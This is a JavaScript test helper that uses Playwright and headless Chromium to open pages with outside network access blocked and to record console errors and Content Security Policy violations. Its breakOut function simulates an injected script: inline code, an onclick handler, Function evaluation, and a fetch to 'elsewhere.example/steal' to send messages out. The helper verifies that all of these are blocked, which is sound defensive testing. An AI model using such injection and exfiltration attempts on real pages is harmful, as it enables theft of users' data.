// A real browser that can reach nothing but the server, and tells all that is wrong with a page.
import { chromium } from "playwright-core";

const ARGUMENTS = [
  "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
  "--disable-background-networking", "--disable-component-update", "--disable-sync",
];

export function launch() {
  return chromium.launch({ executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium", args: ARGUMENTS });
}

/**
 * Opens a page in a context of its own, so that no cache or stored tab of one is seen by the other. `own` answers for some
 * addresses of the server, and `elsewhere` what is asked of other hosts, which is a problem otherwise.
 */
export async function openPage(browser, url, { own = {}, elsewhere, ...options } = {}) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, ...options });
  const page = await context.newPage();
  const problems = [];
  page.on("console", (message) => message.type() === "error" && problems.push(`console: ${message.text()}`));
  page.on("pageerror", (error) => problems.push(`uncaught: ${error.message}`));
  await page.exposeFunction("reportViolation", (violation) => problems.push(`against the page's policy: ${violation}`));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sourceFile }) =>
      window.reportViolation(`${effectiveDirective} ${blockedURI} from ${sourceFile}`));
  });
  await context.route("**/*", async (route) => {
    const requested = new URL(route.request().url());
    if (own[requested]) return own[requested](route);
    if (requested.origin === new URL(url).origin) return route.continue();
    if (elsewhere) return elsewhere(route);
    problems.push(`request to another host: ${requested}`);
    return route.abort();
  });
  await page.goto(url);
  return { page, problems };
}

/** What a script that got into the page would try: whether any of it worked. */
export function breakOut(page) {
  return page.evaluate(async () => {
    const script = document.createElement("script");
    script.textContent = "window.ranInline = true";
    document.body.append(script);
    const link = document.createElement("a");
    link.setAttribute("onclick", "window.ranHandler = true");
    link.click();
    // Later, because what a debugger itself runs may evaluate.
    const evaluated = await new Promise((resolve) => setTimeout(() => {
      try {
        resolve(Function("return true")());
      } catch {
        resolve(false);
      }
    }));
    const heard = new Promise((resolve) => {
      document.addEventListener("securitypolicyviolation", (event) => event.effectiveDirective === "connect-src" && resolve());
    });
    const sent = await fetch("https://elsewhere.example/steal?what=messages").then(() => true, () => false);
    await heard;
    return [window.ranInline, window.ranHandler, evaluated, sent].some(Boolean);
  });
}
